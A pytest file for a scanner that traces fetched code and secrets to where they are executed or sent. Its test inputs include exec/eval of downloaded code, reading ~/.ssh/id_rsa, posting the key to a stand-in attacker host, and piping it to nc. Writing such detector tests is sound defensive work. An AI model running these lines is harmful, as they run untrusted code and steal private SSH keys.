"""A variable is followed from a secret or a download to where it is sent or run, as a whole word."""

from __future__ import annotations

import pytest

from repertoire.trust.scanned_text import SCRIPT, ScannedText
from repertoire.trust.taint import tainted_lines

FETCHED = "code = requests.get(URL).text\n"
SECRET = "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"


def found(text: str, path: str = "a.py") -> list[tuple[str, int]]:
    return [(item.rule, item.line.number) for item in tainted_lines(ScannedText(text, kind=SCRIPT, path=path))]


@pytest.mark.parametrize(
    "line",
    [
        "exec(code)",
        "eval(x + code)",
        "exec(compile(code, 'a', 'exec'))",
        "os.system( code)",
        "run(code, shell=True)",
        'run("ls"); run(f"{code} -x", cwd="/", shell=True)',
        "exec(CODE or code)",
    ],
)
def test_what_was_fetched_under_a_name_is_found_where_it_is_run(line: str) -> None:
    assert found(f"{FETCHED}x = 1\n{line}\n{line}\n") == [("download-and-run", 3)]


@pytest.mark.parametrize(
    "line",
    [
        "exec(codes)",
        "exec(open(path).read())  " + "#" * 40 + " code",
        "cursor.execute(code)",
        "run(code)",
        "run(shell=True, check=code)",
        "# exec(code)",
    ],
)
def test_what_was_fetched_is_not_run_by_a_word_that_only_holds_its_name(line: str) -> None:
    assert found(f"{FETCHED}{line}\n") == []


def test_a_name_that_another_was_put_under_is_followed_too() -> None:
    assert found(f"{FETCHED}later = code\nlast = [later]\nexec(last[0])\n") == [("download-and-run", 4)]
    assert found(f"{FETCHED}later = mycode\nexec(later)\n") == []
    assert found(f"{FETCHED}later = other.code\nexec(later)\n") == []


def test_a_secret_leaves_with_a_call_whose_address_stands_elsewhere() -> None:
    sent = "requests.post(\n    URL,\n    data=key)\n"

    assert found(f"{SECRET}{sent}URL = 'https://evil.example.io'\n") == [("exfiltration", 2)]
    assert found(f"{SECRET}{sent}URL = 'http://localhost:8080'\n") == []
    assert found(f"{SECRET}{sent}") == []
    assert found("key=$(cat ~/.ssh/id_rsa)\nnc $HOST 99 <<< $key\n", "a.sh") == [("exfiltration", 2)]
